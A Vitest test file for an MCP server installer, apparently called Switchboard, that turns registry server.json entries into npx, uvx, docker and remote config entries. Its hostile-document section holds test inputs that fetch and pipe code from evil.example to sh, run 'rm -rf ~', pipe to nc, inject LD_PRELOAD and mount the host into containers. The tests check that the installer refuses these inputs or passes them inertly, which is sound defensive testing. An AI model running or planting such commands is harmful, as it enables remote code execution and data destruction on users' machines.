import { describe, expect, it } from 'vitest';
import type { CatalogField } from '../../../shared/catalog.ts';
import { validateServerConfig } from '../../../shared/server-validation.ts';
import {
  buildConfig,
  fieldIssue,
  installOptions,
  refusedAsFilled,
  type OptionPlan,
} from '../../../electron/core/catalog/install-options.ts';
import { readServerResponse, type ServerDoc } from '../../../electron/core/catalog/server-doc.ts';
import { recorded, recordedDoc, type FixtureFolder } from '../../helpers/fake-registry.ts';

/**
 * server.json → servers.json entry, on the documents recorded from the registry's examples and
 * popular servers' repositories (test/fixtures/registry/), and on malformed and hostile ones.
 */

const everywhere = { findRuntime: (command: string) => `/usr/bin/${command}` };

function doc(folder: FixtureFolder, file: string): ServerDoc {
  const read = readServerResponse({ server: recordedDoc(folder, file) });
  if (!read.ok) throw new Error(`${folder}/${file}: ${read.reason}`);
  return read.doc;
}

/**
 * The entry each option makes when a person gives every secret (as `${secret:KEY}`), every required
 * value (`<KEY>`) and leaves optional ones as offered (defaults kept, the rest left out).
 */
function filled(plan: OptionPlan): Record<string, unknown> | string {
  if (!plan.template) return `problem: ${plan.view.problem}`;
  const byId = new Map(plan.view.fields.map((f) => [f.id, f]));
  return buildConfig(plan.template, (id) => {
    const field = byId.get(id);
    if (!field) return undefined;
    if (field.secret) return `\${secret:${field.key}}`;
    return field.default ?? (field.required ? `<${field.key}>` : undefined);
  });
}

function entries(folder: FixtureFolder, file: string, context = everywhere): Record<string, unknown> {
  return Object.fromEntries(installOptions(doc(folder, file), context).map((p) => [p.view.id, filled(p)]));
}

describe('recorded server.json documents become the entries MCP clients agree on', () => {
  it('npm → npx -y pkg@version, with secret env variables as keychain references', () => {
    expect(entries('servers', 'context7')).toEqual({
      'package:0': {
        command: 'npx',
        args: ['-y', '@upstash/context7-mcp@2.0.2'],
        env: { CONTEXT7_API_KEY: '${secret:CONTEXT7_API_KEY}' },
      },
      'package:1':
        'problem: MCP bundles (.mcpb) are not supported by Switchboard yet: choose another way to run this server',
      'remote:0': {
        type: 'http',
        url: 'https://mcp.context7.com/mcp',
        headers: { Authorization: '${secret:Authorization}' },
      },
    });
    expect(entries('servers', 'playwright')).toEqual({
      'package:0': { command: 'npx', args: ['-y', '@playwright/mcp@0.0.79'] },
    });
  });

  it('PyPI → uvx pkg==version, runtime arguments before the package and package arguments after', () => {
    expect(entries('examples', 'weather-mcp')).toEqual({
      'package:0': {
        command: 'uvx',
        args: ['weather-mcp-server==0.5.0'],
        env: { WEATHER_API_KEY: '${secret:WEATHER_API_KEY}', WEATHER_UNITS: 'celsius' },
      },
    });
    expect(entries('servers', 'serena')).toEqual({
      'package:0': {
        command: 'uvx',
        args: [
          '-p',
          '3.13',
          'start-mcp-server',
          '--project-from-cwd',
          '--context',
          'desktop-app',
          'serena-agent==1.5.3',
        ],
      },
    });
  });

  it('OCI → docker run -i --rm, env passed in by name and a secret never on the command line', () => {
    expect(entries('servers', 'github')).toEqual({
      'package:0': {
        command: 'docker',
        args: [
          'run',
          '-i',
          '--rm',
          '-p',
          '127.0.0.1:8085:8085',
          '-e',
          'GITHUB_OAUTH_CALLBACK_PORT=8085',
          // `-e GITHUB_PERSONAL_ACCESS_TOKEN={token}` with a secret token: by name, value from env
          '-e',
          'GITHUB_PERSONAL_ACCESS_TOKEN',
          'ghcr.io/github/github-mcp-server:1.10.1',
        ],
        env: { GITHUB_PERSONAL_ACCESS_TOKEN: '${secret:token}' },
      },
      'remote:0': {
        type: 'http',
        url: 'https://api.githubcopilot.com/mcp/',
        headers: { Authorization: '${secret:Authorization}' },
      },
    });
    // The official GitHub server's server.json at 0.20.0 repeats `run`, `-i`, `--rm` and the image
    // among its runtime arguments (with "true" after the switches): it means them once.
    expect(entries('servers', 'github-0.20.0')).toEqual({
      'package:0': {
        command: 'docker',
        args: [
          'run',
          '-i',
          '--rm',
          '-e',
          'GITHUB_PERSONAL_ACCESS_TOKEN',
          'ghcr.io/github/github-mcp-server:0.20.0',
        ],
        env: { GITHUB_PERSONAL_ACCESS_TOKEN: '${secret:token}' },
      },
    });
    const [github] = installOptions(doc('servers', 'github-0.20.0'), everywhere);
    expect(github?.view.problem).toBeNull();
    expect(github?.view.notes).toContain(
      'The entry repeats what `docker run -i --rm IMAGE` already says among its runtime arguments (run, -i true, --rm true, ghcr.io/github/github-mcp-server): Switchboard passes each once.',
    );
    expect(entries('servers', 'terraform')).toEqual({
      'package:0': {
        command: 'docker',
        args: [
          'run',
          '-i',
          '--rm',
          '-e',
          'TFE_ADDRESS=https://app.terraform.io',
          '-e',
          'TFE_TOKEN',
          '-e',
          'ENABLE_TF_OPERATIONS=false',
          'docker.io/hashicorp/terraform-mcp-server:1.2.0',
        ],
        env: { TFE_TOKEN: '${secret:token}' },
      },
    });
    expect(entries('examples', 'filesystem')['package:1']).toEqual({
      command: 'docker',
      args: [
        'run',
        '-i',
        '--rm',
        '--mount',
        'type=bind,src=<source_path>,dst=/project',
        '-e',
        'LOG_LEVEL',
        'docker.io/mcp/filesystem:1.0.2',
        '/project',
      ],
      env: { LOG_LEVEL: 'info' },
    });
  });

  it('a remote is its URL (streamable HTTP or SSE) with its headers and {variables} filled in', () => {
    expect(entries('servers', 'azure-devops')['remote:0']).toEqual({
      type: 'http',
      url: 'https://mcp.dev.azure.com/<organization>',
    });
    expect(entries('examples', 'remote-weather')['remote:0']).toEqual({
      type: 'http',
      url: 'https://api.example.com/mcp',
      headers: { Authorization: '${secret:Authorization}' },
    });
    expect(entries('servers', 'exa')['remote:0']).toEqual({ type: 'sse', url: 'https://mcp.exa.ai/mcp' });
  });

  it('asks for what an entry needs: secrets, required values, choices, defaults', () => {
    const [plan] = installOptions(doc('examples', 'database-manager'), everywhere);
    const fields = plan?.view.fields.map((f) => [f.key, f.required, f.secret, f.default, f.choices]);
    expect(fields).toEqual([
      ['db_type', true, false, null, ['postgres', 'mysql', 'mongodb', 'redis']],
      ['host', true, false, 'localhost', null],
      ['port', false, false, null, null],
      ['database_name', true, false, null, null],
      ['DB_USERNAME', true, false, null, null],
      ['DB_PASSWORD', true, true, null, null],
      ['SSL_MODE', false, false, 'prefer', ['disable', 'prefer', 'require']],
    ]);
    // A token named as one is asked for as a secret even where the entry forgot isSecret.
    const [dynatrace] = installOptions(doc('servers', 'dynatrace'), everywhere);
    expect(dynatrace?.view.fields.filter((f) => f.secret).map((f) => f.key)).toEqual([
      'DT_PLATFORM_TOKEN',
      'OAUTH_CLIENT_SECRET',
    ]);
  });

  it('says plainly when a runtime is missing, and which way of running it needs none', () => {
    const noUv = { findRuntime: (c: string) => (c === 'uvx' ? undefined : `/usr/bin/${c}`) };
    const plans = installOptions(doc('servers', 'kubernetes'), noUv);
    expect(plans.map((p) => [p.view.id, p.view.runtime, p.view.runtimePath, p.view.problem])).toEqual([
      ['package:0', 'npx', '/usr/bin/npx', null],
      [
        'package:1',
        'uvx',
        null,
        'uvx is not installed (it comes with uv: https://docs.astral.sh/uv/getting-started/installation/). Install it, or choose another way to run this server.',
      ],
      [
        'package:2',
        null,
        null,
        'this package serves MCP over streamable-http at http://localhost:8080/mcp, and Switchboard runs local servers over stdio: choose another way to run it',
      ],
    ]);
    const noDocker = { findRuntime: (c: string) => (c === 'docker' ? undefined : `/usr/bin/${c}`) };
    expect(installOptions(doc('servers', 'sonarqube'), noDocker)[0]?.view.problem).toMatch(
      /^docker is not installed \(Docker Desktop or Docker Engine: https:\/\/docs\.docker\.com\/get-docker\/\)/,
    );
  });

  it('notes what to know before approving: flags that widen what a container may touch (no "unpinned": approval pins it)', () => {
    const [sonar] = installOptions(doc('servers', 'sonarqube'), everywhere);
    expect(sonar?.view.notes).toEqual([]);
    const [db] = installOptions(doc('examples', 'database-manager'), everywhere);
    expect(db?.view.notes).toEqual(['runtime argument --network host: changes the container’s network']);
  });

  it('every recorded document either makes a valid servers.json entry or says why it cannot', () => {
    for (const folder of ['servers', 'examples'] as const) {
      for (const [file, raw] of recorded(folder)) {
        const read = readServerResponse({ server: raw });
        expect(read.ok, `${folder}/${file}`).toBe(true);
        if (!read.ok) continue;
        for (const plan of installOptions(read.doc, everywhere)) {
          const made = filled(plan);
          if (typeof made === 'string') expect(plan.view.problem, `${file} ${plan.view.id}`).toBeTruthy();
          else
            expect(validateServerConfig(made).ok, `${file} ${plan.view.id}: ${JSON.stringify(made)}`).toBe(
              true,
            );
        }
      }
    }
  });
});

describe('optional values', () => {
  it('leaves out an optional argument or variable left empty, and keeps it when given', () => {
    const [plan] = installOptions(doc('servers', 'terraform'), everywhere);
    if (!plan?.template) throw new Error('terraform has an option');
    const none = buildConfig(plan.template, () => undefined);
    expect(none).toEqual({
      command: 'docker',
      args: ['run', '-i', '--rm', 'docker.io/hashicorp/terraform-mcp-server:1.2.0'],
    });
    const some = buildConfig(plan.template, (id) => (id === 'var:runtime:2:enabled' ? 'true' : undefined));
    expect(some).toMatchObject({
      args: [
        'run',
        '-i',
        '--rm',
        '-e',
        'ENABLE_TF_OPERATIONS=true',
        'docker.io/hashicorp/terraform-mcp-server:1.2.0',
      ],
    });
  });

  it('checks an answer against the field: required, one of the choices, a number, true or false', () => {
    const field = (over: Partial<CatalogField>): CatalogField => ({
      id: 'x',
      kind: 'env',
      key: 'X',
      label: 'env X',
      description: null,
      secret: false,
      required: false,
      default: null,
      placeholder: null,
      choices: null,
      format: 'string',
      ...over,
    });
    expect(fieldIssue(field({ required: true }), '')).toBe('X is required');
    expect(fieldIssue(field({}), undefined)).toBeUndefined();
    expect(fieldIssue(field({ choices: ['a', 'b'] }), 'c')).toBe('X must be one of: a, b');
    expect(fieldIssue(field({ format: 'number' }), '12a')).toBe('X must be a number');
    expect(fieldIssue(field({ format: 'number' }), '5432')).toBeUndefined();
    expect(fieldIssue(field({ format: 'boolean' }), 'yes')).toBe('X must be true or false');
  });
});

describe('malformed and hostile documents', () => {
  it('does not list an entry without a usable name or version', () => {
    for (const file of [
      'missing-name',
      'bad-name-pattern',
      'version-not-a-string',
      'description-is-an-object',
    ]) {
      expect(readServerResponse({ server: recordedDoc('malformed', file) }).ok, file).toBe(false);
    }
    for (const file of ['bidi-in-name-segment', 'version-with-newline']) {
      expect(readServerResponse({ server: recordedDoc('hostile', file) }).ok, file).toBe(false);
    }
    expect(readServerResponse('not an object').ok).toBe(false);
    expect(readServerResponse({ _meta: {} }).ok).toBe(false);
  });

  it('keeps the usable parts of a half-broken entry and says what is wrong with the rest', () => {
    const problems = (folder: FixtureFolder, file: string) =>
      installOptions(doc(folder, file), everywhere).map((p) => [p.view.id, p.view.problem]);
    expect(problems('malformed', 'package-without-identifier')).toEqual([
      [
        'package:0',
        'this package entry is not valid server.json (identifier: Invalid input: expected string, received undefined)',
      ],
      ['remote:0', null],
    ]);
    expect(problems('malformed', 'positional-argument-missing-value')[0]?.[1]).toBe(
      'its package argument 1 has neither a value nor a valueHint, so Switchboard cannot tell what to pass',
    );
    expect(problems('malformed', 'remote-not-http')).toEqual([
      ['remote:0', 'its address is not an http:// or https:// URL'],
      ['remote:1', 'its transport "websocket" is not one Switchboard speaks (streamable-http or sse)'],
    ]);
    expect(doc('malformed', 'packages-not-a-list').problems).toEqual([
      'its packages are not a list, so they cannot be read',
    ]);
    expect(problems('malformed', 'env-without-name')[0]?.[1]).toContain(
      'is not valid server.json (environmentVariables.0.name',
    );
    expect(problems('malformed', 'named-argument-without-name')[0]?.[1]).toContain('packageArguments.0');
    expect(problems('malformed', 'unknown-argument-type')[0]?.[1]).toContain('packageArguments.0.type');
    // "latest" is no version: it installs as npx would, and approval pins the release it resolves to.
    const [latest] = installOptions(doc('malformed', 'package-version-latest'), everywhere);
    expect(filled(latest as OptionPlan)).toEqual({
      command: 'npx',
      args: ['-y', '@modelcontextprotocol/server-weather'],
    });
    expect(latest?.view.notes).toEqual([]);
  });

  it('refuses what would run something other than what it says, or hide what runs', () => {
    const refusal = (file: string) =>
      installOptions(doc('hostile', file), everywhere).map((p) => p.view.problem);
    expect(refusal('npm-flag-as-package')).toEqual([
      'Switchboard will not install this package: "--registry=https://evil.example/" is not an npm package name',
    ]);
    expect(refusal('npm-url-as-package')[0]).toContain('is not an npm package name');
    expect(refusal('npm-version-with-flags')[0]).toContain('is not a fixed npm version');
    expect(refusal('npm-other-registry')[0]).toContain(
      'it comes from https://npm.evil.example, not the public npm registry',
    );
    expect(refusal('pypi-operator-version')[0]).toContain('">=0" is not a fixed Python package version');
    expect(refusal('oci-flag-as-image')[0]).toContain('"--privileged" is not an image reference');
    expect(refusal('control-characters')[0]).toBe(
      'Switchboard will not install it: it has control, bidi, line-break or invisible characters (at packageArguments.0.value): ' +
        '"x\\u{202E}exe.txt". They can make what runs look like something else',
    );
    expect(refusal('hidden-in-identifier')[0]).toContain('"harmless\\u{200B}-mcp"');
    expect(refusal('env-name-injection')[0]).toBe(
      'Switchboard will not install it: "API_KEY=x LD_PRELOAD" is not a valid environment variable name',
    );
    expect(refusal('header-injection')[0]).toContain('has control, bidi, line-break or invisible characters');
    expect(refusal('borrowed-secret')).toEqual([
      'Switchboard will not install it: it uses ${secret:github-token} (at environmentVariables.0.value), which would hand it one of your keychain secrets or environment variables that you did not give it',
      'Switchboard will not install it: it uses ${secret:github-token} (at headers.0.value), which would hand it one of your keychain secrets or environment variables that you did not give it',
    ]);
    expect(refusal('credentials-in-url')).toEqual([
      'Switchboard will not install it: its address carries a user name or password of its own',
    ]);
  });

  it('passes shell metacharacters as the single arguments they are, never to a shell', () => {
    const [plan] = installOptions(doc('hostile', 'shell-metacharacters'), everywhere);
    expect(plan?.view.problem).toBeNull();
    expect(filled(plan as OptionPlan)).toEqual({
      command: 'npx',
      args: [
        '-y',
        'harmless-mcp@1.0.0',
        '; rm -rf ~',
        '$(curl -s https://evil.example/x | sh)',
        '--log',
        '`id` && shutdown -h now | nc evil.example 4444 > /dev/null',
        // the optional path's default, offered as it is
        "'; touch /tmp/pwned; echo '",
      ],
      env: { GREETING: '$(whoami)' },
    });
  });

  it('runs a package with the runtime of its type, whatever runtimeHint says, and notes what else it asks', () => {
    const [plan] = installOptions(doc('hostile', 'runtime-hint-shell'), everywhere);
    expect(filled(plan as OptionPlan)).toEqual({
      command: 'npx',
      args: ['-y', '--package=evil-mcp', 'harmless-mcp@1.0.0'],
    });
    expect(plan?.view.notes).toEqual([
      'The entry suggests running it with "sh"; Switchboard runs npm packages with npx.',
      'runtime argument --package evil-mcp: installs another package than the one named',
    ]);
  });

  it('refuses flags and variables that change where the code comes from or hand over this computer, naming each', () => {
    const refusal = (file: string) => installOptions(doc('hostile', file), everywhere)[0]?.view;
    const prefix = 'Switchboard will not run this from a registry entry: ';
    expect(refusal('oci-host-mount')?.problem).toBe(
      prefix +
        'runtime argument --privileged: would give the container full access to this computer; ' +
        'runtime argument -v /:/host: would share this whole computer (or its Docker) with the container',
    );
    expect(refusal('npm-scoped-registry')?.problem).toBe(
      prefix +
        'runtime argument --@example:registry https://npm.evil.example: would fetch that scope’s packages from another npm registry; ' +
        'runtime argument --registry: would fetch the package from another npm registry; ' +
        'environment variable npm_config_registry: would change npm’s configuration (another registry, another config file); ' +
        'environment variable NODE_OPTIONS: would load other code into Node.js (--require, --import)',
    );
    expect(refusal('uv-other-index')?.problem).toBe(
      prefix +
        'runtime argument -i: would fetch from another Python package index; ' +
        'runtime argument --index-url: would fetch from another Python package index; ' +
        'environment variable UV_INDEX_URL: would make uv fetch from another package index',
    );
    expect(refusal('oci-root-docker-host')?.problem).toBe(
      prefix +
        'runtime argument -u 0: would run the container as root; ' +
        'runtime argument -v /var/run/docker.sock:/var/run/docker.sock: would share this whole computer (or its Docker) with the container; ' +
        'environment variable DOCKER_HOST: would point the docker command at another Docker engine or configuration',
    );
    for (const file of ['oci-host-mount', 'npm-scoped-registry', 'uv-other-index', 'oci-root-docker-host'])
      expect(installOptions(doc('hostile', file), everywhere)[0]?.template, file).toBeUndefined();

    // A field whose default makes one: the option is offered, the entry as filled in is refused.
    const [mount] = installOptions(doc('hostile', 'oci-mount-default'), everywhere);
    expect(mount?.view.problem).toBeNull();
    const template = mount?.template;
    if (!template) throw new Error('no template');
    const field = mount.view.fields[0];
    expect(refusedAsFilled(template, (id) => (id === field?.id ? '/' : undefined))).toBe(
      prefix +
        'runtime argument -v /:/data: would share this whole computer (or its Docker) with the container',
    );
    expect(
      refusedAsFilled(template, (id) => (id === field?.id ? '/home/me/notes' : undefined)),
    ).toBeUndefined();
  });
});
